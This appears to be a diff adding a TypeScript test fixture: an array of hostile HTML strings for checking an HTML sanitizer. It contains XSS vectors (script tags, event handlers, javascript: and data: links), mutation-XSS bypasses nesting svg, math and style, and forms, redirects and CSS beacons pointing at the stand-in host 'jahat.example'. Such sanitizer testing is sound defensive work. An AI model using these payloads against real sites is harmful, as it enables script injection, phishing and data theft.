@@ -1,0 +1,40 @@
+const evil = 'https://jahat.example';
+const hack = 'window.isHacked=true';
+
+/** HTML that wants to run, frame, send, load or pose, each piece with something harmless before it. */
+export const hostileHtml: readonly string[] = [
+  `<script>${hack}</script>`,
+  `<script src="${evil}/a.js"></script>`,
+  `<img src="x" onerror="${hack}">`,
+  `<img src=x onerror=${hack}//`,
+  `<svg onload="${hack}"><script>${hack}</script></svg>`,
+  `<svg><animate onbegin="${hack}" attributeName="x"></animate><use href="data:image/svg+xml,x"></use></svg>`,
+  `<svg><style><img src=x onerror="${hack}"></style></svg>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${hack}>">`,
+  `<iframe src="${evil}/a"></iframe>`,
+  `<iframe srcdoc="<script>parent.isHacked=true</script>"></iframe>`,
+  `<base href="${evil}/">`,
+  `<link rel="stylesheet" href="${evil}/b.css">`,
+  `<meta http-equiv="refresh" content="0;url=${evil}">`,
+  `<style>*{background:url(${evil}/c)}</style>`,
+  `<p style="position:fixed;inset:0;background:url(${evil}/d)">Bayar ke rekening lain</p>`,
+  `<p class="dialog" id="root" name="body">Pura-pura</p>`,
+  `<xmp><p title="</xmp><img src=x onerror=${hack}>"></xmp>`,
+  `<noscript><p title="</noscript><img src=x onerror=${hack}>"></noscript>`,
+  `<template><img src=x onerror="${hack}"></template>`,
+  `<form action="${evil}/c"><button id="kirim">Kirim</button><input name="body"></form>`,
+  `<a id="pancing" href="javascript:${hack}">Pancing</a>`,
+  `<a href=" java\nscript:${hack}">Pancing</a>`,
+  `<a href="data:text/html,<script>${hack}</script>">Pancing</a>`,
+  `<a href="vbscript:msgbox(1)" target="_blank" ping="${evil}/p">Pancing</a>`,
+  `<object data="${evil}/e"></object><embed src="${evil}/f">`,
+  `<video src="${evil}/g" autoplay onloadstart="${hack}"></video><audio src="${evil}/h"></audio>`,
+  `<details open ontoggle="${hack}"><summary>Buka</summary></details>`,
+  `<div onpointerenter="${hack}" data-testid="x" aria-label="Bohong">Isi</div>`,
+  `<math><mi xlink:href="javascript:${hack}">m</mi></math>`,
+  `<table background="${evil}/i"><td background="${evil}/j">Sel</td></table>`,
+  `<custom-part onclick="${hack}">Isi</custom-part>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hack}></style></mglyph></form>`,
+  // Last: it swallows what stands behind it.
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hack}&gt;">`,
+].map((piece) => `<p>Isi yang aman</p>${piece}`);
